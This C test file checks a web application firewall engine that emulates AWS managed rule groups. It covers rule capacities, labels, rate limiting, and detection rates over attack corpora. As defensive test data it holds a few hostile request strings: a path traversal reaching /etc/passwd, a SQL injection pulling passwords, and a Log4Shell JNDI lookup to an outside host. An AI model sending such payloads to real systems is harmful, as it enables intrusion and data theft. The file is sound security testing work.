/*
 * test_waf_managed.c - mamori's managed rule groups (data/managed, written
 * by scripts/gen-managed-rules) and the default protection
 * (examples/default-webacl.json).
 *
 *  - every group loads alone (its IP sets from data/managed/ipsets), with the
 *    capacity AWS documents for it ("Baseline rule groups", "Use-case
 *    specific rule groups", "IP reputation rule groups", "AWS WAF Bot
 *    Control rule group" in the AWS WAF Developer Guide) and rule labels in
 *    the group's namespace, awswaf:managed:aws:<namespace>:<label>;
 *  - the default web ACL loads, with its WCU and its rate-based rule;
 *  - detection floors on every 10th payload of the corpora in
 *    ../shared/data/waf (each payload as GET /?p= and POST p=, as
 *    bench/waf sends them): slightly below what the groups reach, so that a
 *    change that loses detection or adds false positives fails here;
 *  - the CRS regression corpus (go-ftw YAML, ../shared/data/waf/
 *    crs-regression) replayed through the default web ACL as a REPORT: the
 *    table of what is blocked per CRS rule-file folder is printed; the only
 *    assertion is that every request is parsed or rejected cleanly (CRS's
 *    expectations are not an oracle for an engine that is not CRS).
 *
 * Run from tests/waf (ctest's WORKING_DIRECTORY): the repository is ../..
 */
#include "test.h"

#include "mamori/arena.h"
#include "mamori/json.h"
#include "mamori/waf.h"

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <yaml.h>

#ifndef MM_SHARED_DATA
#define MM_SHARED_DATA "../../../shared/data"
#endif
#define REPO    "../.."
#define MANAGED REPO "/data/managed"

static char *slurp(const char *path, size_t *len) {
  FILE *f = fopen(path, "rb");
  if (!f) return NULL;
  size_t cap = 1 << 16, n = 0, k;
  char *b = malloc(cap);
  while (b && (k = fread(b + n, 1, cap - n, f)) > 0) {
    n += k;
    if (n == cap) {
      char *nb = realloc(b, cap *= 2);
      if (!nb) free(b);
      b = nb;
    }
  }
  fclose(f);
  if (len) *len = n;
  return b;
}

/* A loader with the managed directory: setting it also adds every IP set
 * of data/managed/ipsets, which the reputation groups reference by ARN. */
static mm_waf_loader *managed_loader(void) {
  mm_waf_loader *l = mm_waf_loader_new();
  ASSERT_TRUE(l != NULL);
  mm_error err;
  if (mm_waf_loader_set_managed_dir(l, MANAGED, &err) != MM_OK) MM_TEST_FAIL("%s", err.msg);
  return l;
}

static mm_waf_acl *load_acl_text(mm_waf_loader *l, const char *text, size_t len) {
  mm_error err;
  mm_error_clear(&err);
  mm_waf_acl *acl = mm_waf_acl_load(l, text, len, &err);
  if (!acl) MM_TEST_FAIL("web ACL: %s at %s", err.msg, err.path);
  return acl;
}

/* ---- the groups ---------------------------------------------------------------- */

typedef struct group_fact {
  const char *name;
  uint32_t capacity; /* AWS's documented WCU */
  const char *ns;    /* AWS's label namespace */
} group_fact;

static const group_fact GROUPS[] = {
    {"AWSManagedRulesCommonRuleSet", 700, "awswaf:managed:aws:core-rule-set:"},
    {"AWSManagedRulesAdminProtectionRuleSet", 100, "awswaf:managed:aws:admin-protection:"},
    {"AWSManagedRulesKnownBadInputsRuleSet", 200, "awswaf:managed:aws:known-bad-inputs:"},
    {"AWSManagedRulesSQLiRuleSet", 200, "awswaf:managed:aws:sql-database:"},
    {"AWSManagedRulesLinuxRuleSet", 200, "awswaf:managed:aws:linux-os:"},
    {"AWSManagedRulesUnixRuleSet", 100, "awswaf:managed:aws:posix-os:"},
    {"AWSManagedRulesWindowsRuleSet", 200, "awswaf:managed:aws:windows-os:"},
    {"AWSManagedRulesPHPRuleSet", 100, "awswaf:managed:aws:php-app:"},
    {"AWSManagedRulesWordPressRuleSet", 100, "awswaf:managed:aws:wordpress-app:"},
    {"AWSManagedRulesAmazonIpReputationList", 25, "awswaf:managed:aws:amazon-ip-list:"},
    {"AWSManagedRulesAnonymousIpList", 50, "awswaf:managed:aws:anonymous-ip-list:"},
    {"AWSManagedRulesBotControlRuleSet", 50, "awswaf:managed:aws:bot-control:"},
};
#define N_GROUPS (sizeof(GROUPS) / sizeof(GROUPS[0]))

/* A web ACL of the groups that examples/default-webacl.json leaves out. */
static const char *const OTHERS[] = {
    "AWSManagedRulesAdminProtectionRuleSet", "AWSManagedRulesWordPressRuleSet",
    "AWSManagedRulesAmazonIpReputationList", "AWSManagedRulesAnonymousIpList",
    "AWSManagedRulesBotControlRuleSet"};

static size_t others_acl(char *out, size_t cap, size_t first, size_t n) {
  size_t o = (size_t)snprintf(
      out, cap,
      "{\"Name\":\"t\",\"Id\":\"t\",\"ARN\":\"arn:aws:wafv2:us-east-1:000000000000:regional/"
      "webacl/t/t\",\"DefaultAction\":{\"Allow\":{}},\"VisibilityConfig\":{"
      "\"SampledRequestsEnabled\":false,\"CloudWatchMetricsEnabled\":false,\"MetricName\":\"t\"},"
      "\"Rules\":[");
  for (size_t i = first; i < first + n; i++)
    o += (size_t)snprintf(
        out + o, cap - o,
        "%s{\"Name\":\"AWS-%s\",\"Priority\":%zu,\"OverrideAction\":{\"None\":{}},\"Statement\":{"
        "\"ManagedRuleGroupStatement\":{\"VendorName\":\"AWS\",\"Name\":\"%s\"}},"
        "\"VisibilityConfig\":{\"SampledRequestsEnabled\":false,\"CloudWatchMetricsEnabled\":false,"
        "\"MetricName\":\"g%zu\"}}",
        i > first ? "," : "", OTHERS[i], i, OTHERS[i], i);
  o += (size_t)snprintf(out + o, cap - o, "]}");
  return o;
}

/* Every rule of the group file carries RuleLabels; and the file declares
 * AWS's namespace. */
static void check_group_file(const group_fact *g) {
  char path[512];
  snprintf(path, sizeof(path), MANAGED "/%s.json", g->name);
  size_t len;
  char *text = slurp(path, &len);
  if (!text) MM_TEST_FAIL("cannot read %s", path);
  mm_error err;
  mm_json_doc *doc = mm_json_parse(text, len, NULL, &err);
  ASSERT_TRUE(doc != NULL);
  const mm_json_value *rg = mm_json_get(mm_json_doc_root(doc), "RuleGroup");
  ASSERT_TRUE(rg != NULL);
  ASSERT_TRUE(!strcmp(mm_json_str(mm_json_get(rg, "Name")), g->name));
  ASSERT_TRUE(!strcmp(mm_json_str(mm_json_get(rg, "LabelNamespace")), g->ns));
  int64_t cap = 0;
  ASSERT_EQ(mm_json_get_int64(mm_json_get(rg, "Capacity"), &cap), MM_OK);
  ASSERT_EQ(cap, (int64_t)g->capacity);
  const mm_json_value *rules = mm_json_get(rg, "Rules");
  ASSERT_TRUE(mm_json_len(rules) > 0);
  for (size_t i = 0; i < mm_json_len(rules); i++) {
    const mm_json_value *labels = mm_json_get(mm_json_at(rules, i), "RuleLabels");
    ASSERT_TRUE(mm_json_len(labels) >= 1);
    const char *l = mm_json_str(mm_json_get(mm_json_at(labels, 0), "Name"));
    ASSERT_TRUE(l && *l && !strchr(l, ' '));
  }
  mm_json_doc_free(doc);
  free(text);
}

static mm_waf_loader *loader;
static mm_waf_acl *dflt, *others;

/* AWS: a managed rule group costs its capacity in the web ACL. */
static void check_capacities(const mm_waf_acl *acl) {
  mm_str name;
  uint32_t wcu;
  for (size_t i = 0; mm_waf_acl_rule_capacity(acl, i, &name, &wcu); i++)
    for (size_t g = 0; g < N_GROUPS; g++) {
      size_t n = strlen(GROUPS[g].name);
      if (name.len != n + 4 || memcmp(name.ptr + 4, GROUPS[g].name, n)) continue;
      if (wcu != GROUPS[g].capacity)
        MM_TEST_FAIL("%s: WCU %u, AWS documents %u", GROUPS[g].name, wcu, GROUPS[g].capacity);
      mm_test_checks++;
    }
}

TEST(every_group_loads_with_aws_capacity_and_labels) {
  for (size_t i = 0; i < N_GROUPS; i++) check_group_file(&GROUPS[i]);
  check_capacities(dflt);
  check_capacities(others);
  ASSERT_EQ(mm_waf_acl_capacity(others), 100u + 100u + 25u + 50u + 50u);
}

/* ---- the default web ACL --------------------------------------------------------- */

static mm_waf_acl *default_acl(mm_waf_loader *l) {
  size_t len;
  char *text = slurp(REPO "/examples/default-webacl.json", &len);
  ASSERT_TRUE(text != NULL);
  mm_waf_acl *acl = load_acl_text(l, text, len);
  free(text);
  return acl;
}

static mm_waf_request get_request(const char *uri, mm_waf_header *h) {
  h[0] = (mm_waf_header){MM_STR("Host"), MM_STR("example.com")};
  h[1] = (mm_waf_header){MM_STR("User-Agent"), MM_STR("Mozilla/5.0 (X11; Linux x86_64)")};
  mm_waf_request r;
  memset(&r, 0, sizeof(r));
  r.method = MM_STR("GET");
  r.uri = (mm_str){uri, strlen(uri)};
  r.version = MM_STR("HTTP/1.1");
  r.headers = h;
  r.n_headers = 2;
  r.client_ip = MM_STR("192.0.2.10");
  r.time = 1767225600000;
  return r;
}

static bool has_label(const mm_waf_result *res, const char *label) {
  for (size_t i = 0; i < res->n_labels; i++)
    if (res->labels[i].len == strlen(label) &&
        !memcmp(res->labels[i].ptr, label, res->labels[i].len))
      return true;
  return false;
}

TEST(default_acl_wcu_rate_limit_and_labels) {
  const mm_waf_acl *acl = dflt;
  /* Common 700 + SQLi 200 + KnownBadInputs 200 + Linux 200 + Unix 100 +
   * Windows 200 + PHP 100, and the rate-based rule (2, no scope-down). */
  ASSERT_EQ(mm_waf_acl_capacity(acl), 1702u);
  mm_str name;
  uint32_t wcu;
  ASSERT_TRUE(mm_waf_acl_rule_capacity(acl, 0, &name, &wcu));
  ASSERT_TRUE(mm_str_eq(name, MM_STR("RateLimitPerIP")));

  mm_waf_rate_store *rate = mm_waf_rate_store_memory(1000);
  mm_waf_config cfg = {.rate = rate};
  mm_waf_ctx *ctx = mm_waf_ctx_new(acl, &cfg);
  ASSERT_TRUE(ctx != NULL);
  mm_waf_header h[2];
  mm_waf_result res;
  mm_waf_request r = get_request("/?p=..%2F..%2F..%2Fetc%2Fpasswd", h);
  ASSERT_EQ(mm_waf_evaluate(ctx, &r, &res), MM_OK);
  ASSERT_EQ(res.action, MM_WAF_BLOCK);
  ASSERT_TRUE(has_label(&res, "awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments"));
  r = get_request("/?q=%27%20union%20select%20password%20from%20users--", h);
  ASSERT_EQ(mm_waf_evaluate(ctx, &r, &res), MM_OK);
  ASSERT_EQ(res.action, MM_WAF_BLOCK);
  ASSERT_TRUE(has_label(&res, "awswaf:managed:aws:sql-database:SQLi_QueryArguments"));
  r = get_request("/?x=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D", h);
  ASSERT_EQ(mm_waf_evaluate(ctx, &r, &res), MM_OK);
  ASSERT_EQ(res.action, MM_WAF_BLOCK);
  /* a flood from one address is rate limited: 429 with the custom body */
  bool limited = false;
  for (int i = 0; i < 200 && !limited; i++) {
    r = get_request("/index.html", h);
    ASSERT_EQ(mm_waf_evaluate(ctx, &r, &res), MM_OK);
    limited = res.action == MM_WAF_BLOCK && res.response_code == 429;
  }
  ASSERT_TRUE(limited);
  mm_waf_ctx_free(ctx);
  mm_waf_rate_store_free(rate);
}

TEST(bot_control_label) {
  mm_waf_ctx *ctx = mm_waf_ctx_new(others, &(mm_waf_config){0});
  ASSERT_TRUE(ctx != NULL);
  mm_waf_header h[2];
  mm_waf_result res;
  mm_waf_request r = get_request("/", h);
  h[1].value = MM_STR("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)");
  ASSERT_EQ(mm_waf_evaluate(ctx, &r, &res), MM_OK);
  ASSERT_EQ(res.action, MM_WAF_ALLOW); /* search engines: label, not block */
  ASSERT_TRUE(has_label(&res, "awswaf:managed:aws:bot-control:bot:category:search_engine"));
  h[1].value = MM_STR("python-requests/2.31.0");
  ASSERT_EQ(mm_waf_evaluate(ctx, &r, &res), MM_OK);
  ASSERT_EQ(res.action, MM_WAF_BLOCK);
  ASSERT_TRUE(has_label(&res, "awswaf:managed:aws:bot-control:bot:category:http_library"));
  mm_waf_ctx_free(ctx);
}

TEST(ip_reputation_label) {
  /* the first address of AWSManagedIPReputationList-1 */
  size_t len;
  char *text = slurp(MANAGED "/ipsets/AWSManagedIPReputationList-1.json", &len);
  ASSERT_TRUE(text != NULL);
  mm_error err;
  mm_json_doc *doc = mm_json_parse(text, len, NULL, &err);
  ASSERT_TRUE(doc != NULL);
  const mm_json_value *a =
      mm_json_at(mm_json_get(mm_json_get(mm_json_doc_root(doc), "IPSet"), "Addresses"), 0);
  char ip[64];
  snprintf(ip, sizeof(ip), "%s", mm_json_str(a));
  *strchr(ip, '/') = 0;
  mm_waf_ctx *ctx = mm_waf_ctx_new(others, &(mm_waf_config){0});
  ASSERT_TRUE(ctx != NULL);
  mm_waf_header h[2];
  mm_waf_result res;
  mm_waf_request r = get_request("/", h);
  r.client_ip = (mm_str){ip, strlen(ip)};
  ASSERT_EQ(mm_waf_evaluate(ctx, &r, &res), MM_OK);
  ASSERT_EQ(res.action, MM_WAF_BLOCK);
  ASSERT_TRUE(has_label(&res, "awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList"));
  mm_waf_ctx_free(ctx);
  mm_json_doc_free(doc);
  free(text);
}

/* ---- detection floors on a sample of the corpora ------------------------------------ */

#define SAMPLE 20

typedef struct tally {
  size_t n, blocked;
} tally;

static void url_encode(const char *s, size_t n, const char *prefix, char *out, size_t cap,
                       size_t *len) {
  static const char hex[] = "0123456789ABCDEF";
  size_t o = strlen(prefix);
  memcpy(out, prefix, o);
  for (size_t i = 0; i < n && o + 4 < cap; i++) {
    unsigned char c = (unsigned char)s[i];
    if ((c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') || c == '-' ||
        c == '.' || c == '_' || c == '~') {
      out[o++] = (char)c;
    } else {
      out[o++] = '%';
      out[o++] = hex[c >> 4];
      out[o++] = hex[c & 15];
    }
  }
  out[o] = 0;
  *len = o;
}

static bool blocked(mm_waf_ctx *ctx, mm_waf_request *r) {
  mm_waf_result res;
  ASSERT_EQ(mm_waf_evaluate(ctx, r, &res), MM_OK);
  return res.action != MM_WAF_ALLOW;
}

/* Every SAMPLE-th line of path, as GET /?p= and POST p= (ua: as the
 * User-Agent of GET /). false when the file is missing. */
static bool run_file(mm_waf_ctx *ctx, const char *path, bool ua, tally *t) {
  FILE *f = fopen(path, "rb");
  if (!f) return false;
  static char buf[3 * 65536 + 16];
  char *line = NULL;
  size_t cap = 0, k = 0;
  ssize_t n;
  while ((n = getline(&line, &cap, f)) >= 0) {
    while (n > 0 && (line[n - 1] == '\n' || line[n - 1] == '\r')) n--;
    if (n == 0 || n > 65536 || k++ % SAMPLE) continue;
    mm_waf_header h[3];
    mm_waf_request r;
    size_t len;
    if (ua) {
      r = get_request("/", h);
      h[1].value = (mm_str){line, (size_t)n};
      t->n++;
      t->blocked += blocked(ctx, &r);
      continue;
    }
    url_encode(line, (size_t)n, "/?p=", buf, sizeof(buf), &len);
    r = get_request(buf, h);
    t->n++;
    t->blocked += blocked(ctx, &r);
    url_encode(line, (size_t)n, "p=", buf, sizeof(buf), &len);
    r = get_request("/", h);
    h[2] = (mm_waf_header){MM_STR("Content-Type"), MM_STR("application/x-www-form-urlencoded")};
    r.n_headers = 3;
    r.method = MM_STR("POST");
    r.body = (mm_str){buf, len};
    r.body_length = len;
    t->n++;
    t->blocked += blocked(ctx, &r);
  }
  free(line);
  fclose(f);
  return true;
}

typedef struct floor_case {
  const char *file; /* under waf/ */
  bool ua;          /* as User-Agent */
  double min, max;  /* bounds on the blocked share, percent */
} floor_case;

/* Reached on this sample when written (docs/waf/managed.md has the full
 * corpus figures): floors a little below, ceilings a little above. */
static const floor_case FLOORS[] = {
    {"wcp-malicious/cmdexe/true-positives.txt", false, 95.0, 100.0},
    {"wcp-malicious/log4shell/true-positives.txt", false, 75.0, 100.0},
    {"wcp-malicious/shellshock/true-positives.txt", false, 75.0, 100.0},
    {"wcp-malicious/sqli/true-positives.txt", false, 94.0, 100.0},
    {"wcp-malicious/traversal/true-positives.txt", false, 98.0, 100.0},
    {"wcp-malicious/xss/true-positives.txt", false, 97.0, 100.0},
    {"wcp-malicious/xxe/true-positives.txt", false, 75.0, 100.0},
    {"benign/httpparams/benign-values.txt", false, 0.0, 0.3},
    {"benign/user-agents/user-agents.unique.txt", true, 0.0, 0.3},
};

TEST(detection_floors_on_a_sample) {
  mm_waf_ctx *ctx = mm_waf_ctx_new(dflt, &(mm_waf_config){0}); /* no rate store: no rate limit */
  ASSERT_TRUE(ctx != NULL);
  for (size_t i = 0; i < sizeof(FLOORS) / sizeof(FLOORS[0]); i++) {
    char path[1024];
    snprintf(path, sizeof(path), "%s/waf/%s", MM_SHARED_DATA, FLOORS[i].file);
    tally t = {0};
    if (!run_file(ctx, path, FLOORS[i].ua, &t)) {
      printf("  skipped (no corpus): %s\n", path);
      continue;
    }
    double share = t.n ? 100.0 * (double)t.blocked / (double)t.n : 0;
    printf("  %-48s %6zu requests %7.2f%% blocked (bounds %.1f..%.1f)\n", FLOORS[i].file, t.n,
           share, FLOORS[i].min, FLOORS[i].max);
    if (share < FLOORS[i].min || share > FLOORS[i].max)
      MM_TEST_FAIL("%s: %.2f%% blocked, outside %.1f..%.1f", FLOORS[i].file, share, FLOORS[i].min,
                   FLOORS[i].max);
  }
  mm_waf_ctx_free(ctx);
}

/* ---- the CRS regression corpus, as a report ----------------------------------------- */

typedef struct crs_folder {
  char name[128];
  size_t requests, blocked, rejected;
} crs_folder;

static const yaml_node_t *map_get(yaml_document_t *doc, const yaml_node_t *map, const char *key) {
  if (!map || map->type != YAML_MAPPING_NODE) return NULL;
  for (yaml_node_pair_t *p = map->data.mapping.pairs.start; p < map->data.mapping.pairs.top; p++) {
    const yaml_node_t *k = yaml_document_get_node(doc, p->key);
    if (k && k->type == YAML_SCALAR_NODE && !strcmp((const char *)k->data.scalar.value, key))
      return yaml_document_get_node(doc, p->value);
  }
  return NULL;
}

static mm_str scalar(const yaml_node_t *n) {
  if (!n || n->type != YAML_SCALAR_NODE) return (mm_str){"", 0};
  return (mm_str){(const char *)n->data.scalar.value, n->data.scalar.length};
}

static int b64(int c) {
  if (c >= 'A' && c <= 'Z') return c - 'A';
  if (c >= 'a' && c <= 'z') return c - 'a' + 26;
  if (c >= '0' && c <= '9') return c - '0' + 52;
  return c == '+' ? 62 : c == '/' ? 63 : -1;
}

static size_t b64_decode(mm_str in, char *out) {
  size_t o = 0;
  unsigned acc = 0;
  int bits = 0;
  for (size_t i = 0; i < in.len; i++) {
    int v = b64((unsigned char)in.ptr[i]);
    if (v < 0) continue;
    acc = (acc << 6) | (unsigned)v;
    bits += 6;
    if (bits >= 8) {
      bits -= 8;
      out[o++] = (char)((acc >> bits) & 255);
    }
  }
  return o;
}

/* One go-ftw stage input: a request built from method/uri/headers/data, or
 * parsed from raw_request / encoded_request. */
static void replay_input(mm_waf_ctx *ctx, yaml_document_t *doc, const yaml_node_t *in,
                         crs_folder *f) {
  mm_arena a;
  mm_arena_init(&a, 0);
  mm_waf_request r;
  memset(&r, 0, sizeof(r));
  mm_error err;
  int rc = MM_OK;
  mm_str raw = scalar(map_get(doc, in, "raw_request"));
  mm_str enc = scalar(map_get(doc, in, "encoded_request"));
  if (raw.len || enc.len) {
    char *text = raw.len ? (char *)raw.ptr : mm_arena_alloc(&a, enc.len + 1);
    size_t len = raw.len ? raw.len : b64_decode(enc, text);
    rc = text ? mm_waf_request_parse_raw(&a, text, len, &r, &err) : MM_ENOMEM;
  } else {
    mm_waf_header *h = mm_arena_calloc(&a, 64, sizeof(*h));
    size_t nh = 0;
    const yaml_node_t *hs = map_get(doc, in, "headers");
    if (hs && hs->type == YAML_MAPPING_NODE)
      for (yaml_node_pair_t *p = hs->data.mapping.pairs.start;
           p < hs->data.mapping.pairs.top && nh < 64; p++) {
        h[nh].name = scalar(yaml_document_get_node(doc, p->key));
        h[nh].value = scalar(yaml_document_get_node(doc, p->value));
        /* go-ftw targets a local server ("Host: localhost"), which
         * KnownBadInputs' Host_localhost_HEADER blocks by design: report
         * what the payloads trigger, under a public host name. */
        if (mm_str_ieq(h[nh].name, MM_STR("Host")) &&
            mm_str_has_prefix(h[nh].value, MM_STR("localhost")))
          h[nh].value = MM_STR("example.com");
        nh++;
      }
    r.method = scalar(map_get(doc, in, "method"));
    if (!r.method.len) r.method = MM_STR("GET");
    r.uri = scalar(map_get(doc, in, "uri"));
    if (!r.uri.len) r.uri = MM_STR("/");
    r.version = MM_STR("HTTP/1.1");
    r.headers = h;
    r.n_headers = nh;
    const yaml_node_t *data = map_get(doc, in, "data");
    if (data && data->type == YAML_SEQUENCE_NODE) {
      mm_buf b = MM_BUF_INIT;
      for (yaml_node_item_t *it = data->data.sequence.items.start;
           it < data->data.sequence.items.top; it++) {
        mm_str s = scalar(yaml_document_get_node(doc, *it));
        mm_buf_append(&b, s.ptr, s.len);
        mm_buf_append(&b, "\r\n", 2);
      }
      r.body = (mm_str){mm_arena_memdup(&a, b.ptr ? b.ptr : "", b.len), b.len};
      mm_buf_free(&b);
    } else {
      r.body = scalar(data);
    }
    r.body_length = r.body.len;
  }
  f->requests++;
  if (rc != MM_OK) {
    f->rejected++;
  } else {
    r.client_ip = MM_STR("192.0.2.20");
    r.time = 1767225600000;
    mm_waf_result res;
    rc = mm_waf_evaluate(ctx, &r, &res);
    /* parsed or rejected cleanly: MM_ELIMIT is a clean rejection */
    if (rc != MM_OK && rc != MM_ELIMIT) MM_TEST_FAIL("%s: evaluate returned %d", f->name, rc);
    if (rc != MM_OK)
      f->rejected++;
    else if (res.action != MM_WAF_ALLOW)
      f->blocked++;
  }
  mm_arena_destroy(&a);
}

/* Every mapping member "input" below n (go-ftw: tests[].stages[].input, or
 * the older tests[].stages[].stage.input). */
static void walk(mm_waf_ctx *ctx, yaml_document_t *doc, const yaml_node_t *n, crs_folder *f,
                 int depth) {
  if (!n || depth > 16) return;
  if (n->type == YAML_SEQUENCE_NODE) {
    for (yaml_node_item_t *it = n->data.sequence.items.start; it < n->data.sequence.items.top; it++)
      walk(ctx, doc, yaml_document_get_node(doc, *it), f, depth + 1);
  } else if (n->type == YAML_MAPPING_NODE) {
    for (yaml_node_pair_t *p = n->data.mapping.pairs.start; p < n->data.mapping.pairs.top; p++) {
      const yaml_node_t *k = yaml_document_get_node(doc, p->key);
      const yaml_node_t *v = yaml_document_get_node(doc, p->value);
      if (k && k->type == YAML_SCALAR_NODE &&
          !strcmp((const char *)k->data.scalar.value, "input") && v && v->type == YAML_MAPPING_NODE)
        replay_input(ctx, doc, v, f);
      else if (!k || k->type != YAML_SCALAR_NODE ||
               strcmp((const char *)k->data.scalar.value, "output"))
        walk(ctx, doc, v, f, depth + 1);
    }
  }
}

static void replay_file(mm_waf_ctx *ctx, const char *path, crs_folder *f) {
  FILE *fp = fopen(path, "rb");
  if (!fp) return;
  yaml_parser_t parser;
  yaml_document_t doc;
  yaml_parser_initialize(&parser);
  yaml_parser_set_input_file(&parser, fp);
  if (yaml_parser_load(&parser, &doc)) {
    walk(ctx, &doc, yaml_document_get_root_node(&doc), f, 0);
    yaml_document_delete(&doc);
  } else {
    f->rejected++; /* a YAML file libyaml cannot read: counted, not fatal */
  }
  yaml_parser_delete(&parser);
  fclose(fp);
}

static int cmp_name(const void *a, const void *b) {
  return strcmp(*(char *const *)a, *(char *const *)b);
}

TEST(crs_regression_report) {
  const char *root = MM_SHARED_DATA "/waf/crs-regression/tests";
  DIR *d = opendir(root);
  if (!d) {
    printf("  skipped (no corpus): %s\n", root);
    return;
  }
  char *names[128];
  size_t nn = 0;
  struct dirent *e;
  while ((e = readdir(d)) && nn < 128)
    if (e->d_name[0] != '.') names[nn++] = strdup(e->d_name);
  closedir(d);
  qsort(names, nn, sizeof(*names), cmp_name);

  mm_waf_ctx *ctx = mm_waf_ctx_new(dflt, &(mm_waf_config){0});
  ASSERT_TRUE(ctx != NULL);
  printf(
      "  CRS regression corpus through examples/default-webacl.json (a report, not an oracle)\n");
  printf("  %-44s %8s %8s %8s %8s\n", "CRS rule-file folder", "requests", "blocked", "share",
         "rejected");
  size_t tr = 0, tb = 0, tj = 0;
  for (size_t i = 0; i < nn; i++) {
    crs_folder f;
    memset(&f, 0, sizeof(f));
    snprintf(f.name, sizeof(f.name), "%s", names[i]);
    char dir[1024];
    snprintf(dir, sizeof(dir), "%s/%s", root, names[i]);
    DIR *sd = opendir(dir);
    if (!sd) { /* the corpus's skeleton files, not a rule-file folder */
      free(names[i]);
      continue;
    }
    struct dirent *fe;
    while (sd && (fe = readdir(sd))) {
      size_t n = strlen(fe->d_name);
      if (n < 6 || strcmp(fe->d_name + n - 5, ".yaml")) continue;
      char path[2048];
      snprintf(path, sizeof(path), "%s/%s", dir, fe->d_name);
      replay_file(ctx, path, &f);
    }
    if (sd) closedir(sd);
    printf("  %-44s %8zu %8zu %7.1f%% %8zu\n", f.name, f.requests, f.blocked,
           f.requests ? 100.0 * (double)f.blocked / (double)f.requests : 0.0, f.rejected);
    tr += f.requests, tb += f.blocked, tj += f.rejected;
    free(names[i]);
  }
  printf("  %-44s %8zu %8zu %7.1f%% %8zu\n", "ALL", tr, tb,
         tr ? 100.0 * (double)tb / (double)tr : 0, tj);
  ASSERT_TRUE(tr > 0);
  mm_waf_ctx_free(ctx);
}

TEST(load_acls) {
  loader = managed_loader();
  dflt = default_acl(loader);
  char text[4096];
  size_t n = others_acl(text, sizeof(text), 0, sizeof(OTHERS) / sizeof(OTHERS[0]));
  others = load_acl_text(loader, text, n);
}

int main(void) {
  RUN(load_acls);
  if (!dflt || !others) return mm_test_summary();
  RUN(every_group_loads_with_aws_capacity_and_labels);
  RUN(default_acl_wcu_rate_limit_and_labels);
  RUN(bot_control_label);
  RUN(ip_reputation_label);
  RUN(detection_floors_on_a_sample);
  RUN(crs_regression_report);
  mm_waf_acl_free(others);
  mm_waf_acl_free(dflt);
  mm_waf_loader_free(loader);
  return mm_test_summary();
}
